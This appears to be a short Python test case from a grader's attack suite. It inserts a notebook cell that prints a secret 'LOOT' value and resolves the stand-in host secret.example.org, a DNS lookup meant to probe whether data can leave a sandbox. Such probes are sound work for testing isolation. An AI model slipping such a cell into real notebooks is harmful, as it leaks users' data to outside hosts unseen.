"""Asks for a name, which a resolver would carry outside."""

from grader.attacks import LOOT, insert

STOCK = "nothing"


def cell(LOOT):
    import socket

    try:
        print(LOOT, socket.getaddrinfo("secret.example.org", 80))
    except OSError:
        pass


def attack(nb, folder):
    insert(nb, cell, LOOT=LOOT)
